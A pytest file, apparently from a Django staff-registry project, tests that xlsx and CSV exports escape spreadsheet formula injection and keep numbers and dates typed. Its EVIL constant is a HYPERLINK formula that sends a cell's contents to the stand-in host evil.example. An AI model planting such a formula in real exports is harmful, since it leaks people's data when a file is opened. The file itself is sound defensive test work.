"""Issue 12, finding 3: exported cells are text unless they are typed numbers or dates; never formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from opentic.core.tabular import read_table, write_csv, write_xlsx
from opentic.registry.models import Institution, Staff
from opentic.registry.sheets import export
from tests.conftest import World

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


@pytest.mark.django_db
def test_a_staff_name_that_is_a_formula_is_exported_as_text(world: World) -> None:
    Staff.objects.create(institution=world.lab_a, name=EVIL, employee_no="E0666", person_key="k-evil",
                         id_masked="5001**********0000")
    data, _ = export("staff", Institution.objects.all(), "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value == EVIL]
    assert len(cells) == 1 and cells[0].data_type == "s"

    text, _ = export("staff", Institution.objects.all(), "csv")
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert ["'" + EVIL] in [[c for c in r if EVIL in c] for r in rows]
    assert not any(c.startswith("=") for r in rows for c in r)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_escaped_in_csv(prefix: str) -> None:
    data = write_csv(["名称"], [[prefix + "1+1"]])
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert row == ["'" + prefix + "1+1"]


def test_typed_numbers_and_dates_stay_typed() -> None:
    data = write_xlsx(["n", "d", "x", "t"], [[-5, Decimal("1.25"), dt.date(2026, 12, 1), "-5"]])
    row = next(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))
    assert [c.data_type for c in row] == ["n", "n", "d", "s"]
    assert list(csv.reader(io.StringIO(write_csv(["n", "t"], [[-5, "-5"]]).decode("utf-8-sig"))))[1] == ["-5", "'-5"]


def test_an_escaped_csv_reads_back_as_it_was_written() -> None:
    written = [[EVIL, "-0.5"], ["'quoted", "@home"], ["'=x", "''"]]
    _, body = read_table("x.csv", write_csv(["名称", "值"], written))
    assert body == written
